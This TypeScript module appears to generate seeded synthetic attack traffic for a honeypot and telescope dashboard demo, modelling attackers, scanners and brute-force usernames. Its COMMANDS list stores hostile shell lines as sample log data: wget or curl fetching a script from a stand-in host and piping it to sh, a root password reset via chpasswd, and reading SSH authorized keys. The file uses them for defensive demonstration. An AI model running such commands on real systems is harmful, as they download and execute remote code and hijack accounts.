// Seeded, realistic synthetic attack traffic for a first look (`blockfeed demo`, `serve --demo-if-empty`):
// heavy-tailed attackers (a few addresses send most events) from real Chinese carrier, education and cloud
// ranges and from the rest of the world; the spec's services and ports; brute forcers and command runners;
// telescope-only scanners; the research scanners of data/scanners.yaml; addresses seen by several sensors
// and by both the honeypots and the telescope. Same seed and clock → same events.
import { SERVICE_PORTS, SERVICES, type Service } from '../../common/vocabulary.ts';
import { ipv4Address, ipv4Last, requireCidr, type Address } from '../../common/ip.ts';
import type { ScannerOrganisation } from '../enrich/curated.ts';
import type { Region } from '../enrich/ip2region.ts';
import type { Action } from '../classify/classification.ts';
import { withId, type AttackEvent } from '../ingest/event.ts';

export interface DemoOptions {
  events: number;
  days: number;
  seed: number;
  /** End of the generated period (ms). */
  now: number;
}

export interface AddressPools {
  /** Chinese ranges by carrier kind, from ip2region. */
  china: Record<'电信' | '联通' | '移动' | 'edu' | 'cloud', { start: number; end: number }[]>;
  /** Public ranges elsewhere (start, end), any carrier. */
  world: { start: number; end: number }[];
  scanners: ScannerOrganisation[];
}

export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Sorts ip2region's ranges into the pools the generator draws from. */
export function addressPools(ranges: Iterable<{ start: number; end: number; region: Region }>, scanners: ScannerOrganisation[]): AddressPools {
  const china: AddressPools['china'] = { 电信: [], 联通: [], 移动: [], edu: [], cloud: [] };
  const world: AddressPools['world'] = [];
  for (const { start, end, region } of ranges) {
    const first = start >>> 24;
    if (first === 0 || first === 10 || first === 127 || first >= 224 || end - start < 16) continue;
    const c = region.carrier ?? '';
    if (region.country === '中国' && region.province && !region.province.startsWith('台湾') && !region.province.startsWith('香港')) {
      if (c === '电信' || c === '联通' || c === '移动') china[c].push({ start, end });
      else if (c === '教育网') china.edu.push({ start, end });
      else if (c === '阿里云' || c.startsWith('腾讯') || c.startsWith('百度')) china.cloud.push({ start, end });
    } else if (region.country && region.country !== '中国' && region.country !== '0' && world.length < 200_000) {
      world.push({ start, end });
    }
  }
  return { china, world, scanners };
}

const USERNAMES = ['root', 'admin', 'ubuntu', 'test', 'oracle', 'postgres', 'user', 'pi', 'git', 'ftpuser', 'sa', 'administrator'];
const COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'cd /tmp || cd /var/run; wget http://198.51.100.23/bins.sh; chmod 777 bins.sh; sh bins.sh',
  'curl -s http://198.51.100.40/x | sh',
  'echo "root:Zx9!aa"|chpasswd|bash',
  'ls -la ~/.ssh; cat ~/.ssh/authorized_keys',
  'crontab -l; nproc; free -m',
  'rm -rf /tmp/.X11-unix/.x; pkill -9 xmrig',
];
const HONEYPOTS = ['hp-bj-01', 'hp-sh-01', 'hp-gz-01', 'hp-cd-01', 'hp-hk-01', 'hp-sg-01', 'hp-fra-01', 'hp-nyc-01'];
const TELESCOPES = ['tel-as-01', 'tel-eu-01', 'tel-us-01'];

type Profile = 'prober' | 'brute' | 'intruder';

interface Actor {
  address: Address;
  kind: 'attacker' | 'scanner' | 'research';
  profile: Profile;
  services: Service[];
  sensors: string[];
  alsoTelescope: boolean;
  /** active period within the demo window, ms */
  from: number;
  to: number;
}

function pickRange(rand: () => number, ranges: { start: number; end: number }[]): Address {
  const r = ranges[Math.floor(rand() * ranges.length)] as { start: number; end: number };
  const num = r.start + 1 + Math.floor(rand() * Math.max(1, r.end - r.start - 1));
  return ipv4Address(num);
}

function pickScanner(rand: () => number, orgs: ScannerOrganisation[]): Address | undefined {
  const ranges = orgs.flatMap((o) => o.ranges.filter((c) => !c.includes(':')));
  const cidr = ranges[Math.floor(rand() * ranges.length)];
  if (!cidr) return undefined;
  const range = requireCidr(cidr);
  if (range.kind !== 4) return undefined;
  const size = ipv4Last(range.network, range.prefix) - range.network + 1;
  return ipv4Address(range.network + Math.floor(rand() * size));
}

function sample<T>(rand: () => number, list: readonly T[], n: number): T[] {
  const copy = [...list];
  const out: T[] = [];
  while (out.length < n && copy.length) out.push(copy.splice(Math.floor(rand() * copy.length), 1)[0] as T);
  return out;
}

/** Cumulative weights for a heavy-tailed (Zipf-like) choice among `n` actors. */
function zipf(n: number, exponent: number): Float64Array {
  const cum = new Float64Array(n);
  let total = 0;
  for (let i = 0; i < n; i++) cum[i] = total += 1 / (i + 1) ** exponent;
  for (let i = 0; i < n; i++) cum[i] = (cum[i] as number) / total;
  return cum;
}

function choose(rand: () => number, cum: Float64Array): number {
  const x = rand();
  let lo = 0;
  let hi = cum.length - 1;
  while (lo < hi) {
    const mid = (lo + hi) >>> 1;
    if ((cum[mid] as number) < x) lo = mid + 1;
    else hi = mid;
  }
  return lo;
}

function makeActors(rand: () => number, pools: AddressPools, o: DemoOptions): { attackers: Actor[]; scanners: Actor[]; research: Actor[] } {
  const span = o.days * 86_400_000;
  const start = o.now - span;
  const period = (): [number, number] => {
    // Most actors are active for a few days; some for the whole window.
    const length = rand() < 0.2 ? span : Math.max(3_600_000, rand() * rand() * span);
    const from = start + rand() * (span - length);
    return [from, from + length];
  };
  const chinaKinds: (keyof AddressPools['china'])[] = ['电信', '电信', '电信', '联通', '联通', '移动', '移动', 'edu', 'cloud', 'cloud'];
  const attackers: Actor[] = [];
  const nAttackers = Math.max(20, Math.round(o.events / 40));
  for (let i = 0; i < nAttackers; i++) {
    const kind = chinaKinds[Math.floor(rand() * chinaKinds.length)] as keyof AddressPools['china'];
    const fromChina = rand() < 0.55 && pools.china[kind].length > 0;
    const address = fromChina ? pickRange(rand, pools.china[kind]) : pickRange(rand, pools.world);
    const roll = rand();
    const profile: Profile = roll < 0.15 ? 'intruder' : roll < 0.75 ? 'brute' : 'prober';
    const nServices = 1 + Math.floor(rand() ** 2 * 4);
    const services = rand() < 0.6 ? ['ssh' as Service, ...sample(rand, SERVICES, nServices - 1)] : sample(rand, SERVICES, nServices);
    const [from, to] = period();
    attackers.push({
      address, kind: 'attacker', profile, services: [...new Set(services)],
      sensors: sample(rand, HONEYPOTS, 1 + Math.floor(rand() ** 3 * 4)), alsoTelescope: rand() < 0.25, from, to,
    });
  }
  const scanners: Actor[] = [];
  for (let i = 0; i < Math.max(10, Math.round(o.events / 150)); i++) {
    const [from, to] = period();
    const address = rand() < 0.4 ? pickRange(rand, pools.china[rand() < 0.5 ? 'cloud' : '电信']) : pickRange(rand, pools.world);
    scanners.push({ address, kind: 'scanner', profile: 'prober', services: sample(rand, SERVICES, 1 + Math.floor(rand() * 3)), sensors: sample(rand, TELESCOPES, 1 + Math.floor(rand() * 2)), alsoTelescope: true, from, to });
  }
  const research: Actor[] = [];
  for (let i = 0; i < 24; i++) {
    const address = pickScanner(rand, pools.scanners);
    if (address) research.push({ address, kind: 'research', profile: 'prober', services: [...SERVICES], sensors: [...sample(rand, HONEYPOTS, 2), ...TELESCOPES], alsoTelescope: true, from: start, to: o.now });
  }
  return { attackers, scanners, research };
}

function eventFor(rand: () => number, actor: Actor, ts: number): AttackEvent {
  const service = actor.services[Math.floor(rand() * actor.services.length)] as Service;
  const ports = SERVICE_PORTS[service];
  const dstPort = ports[Math.floor(rand() ** 2 * ports.length)] as number;
  const telescope = actor.kind === 'scanner' || (actor.alsoTelescope && rand() < (actor.kind === 'research' ? 0.5 : 0.15));
  const sensors = telescope ? actor.sensors.filter((s) => s.startsWith('tel-')) : actor.sensors.filter((s) => s.startsWith('hp-'));
  const sensor = sensors[Math.floor(rand() * sensors.length)] ?? (telescope ? 'tel-as-01' : 'hp-bj-01');
  let action: Action = 0;
  let username: string | null = null;
  let command: string | null = null;
  if (!telescope && actor.profile !== 'prober') {
    const r = rand();
    if (actor.profile === 'intruder' && r < 0.3) {
      action = 2;
      command = COMMANDS[Math.floor(rand() * COMMANDS.length)] as string;
    } else if (r < 0.85) {
      action = 1;
      username = USERNAMES[Math.floor(rand() ** 2 * USERNAMES.length)] as string;
    }
  }
  return withId({ ts, src: actor.address, dstPort, service, proto: 'tcp', source: telescope ? 'telescope' : 'honeypot', sensor, action, username, command });
}

/** Yields `options.events` events, in batches of at most `batch`, in no particular time order. */
export function* demoEvents(pools: AddressPools, options: DemoOptions, batch = 20_000): Generator<AttackEvent[]> {
  const rand = mulberry32(options.seed);
  const { attackers, scanners, research } = makeActors(rand, pools, options);
  const attackerWeights = zipf(attackers.length, 1.1);
  const scannerWeights = zipf(scanners.length, 0.8);
  let out: AttackEvent[] = [];
  for (let i = 0; i < options.events; i++) {
    const r = rand();
    const actor =
      r < 0.75 || (!scanners.length && !research.length)
        ? (attackers[choose(rand, attackerWeights)] as Actor)
        : r < 0.95 || !research.length
          ? (scanners[choose(rand, scannerWeights)] as Actor)
          : (research[Math.floor(rand() * research.length)] as Actor);
    const ts = Math.floor(actor.from + rand() * (actor.to - actor.from));
    out.push(eventFor(rand, actor, Math.min(ts, options.now)));
    if (out.length >= batch) {
      yield out;
      out = [];
    }
  }
  if (out.length) yield out;
}
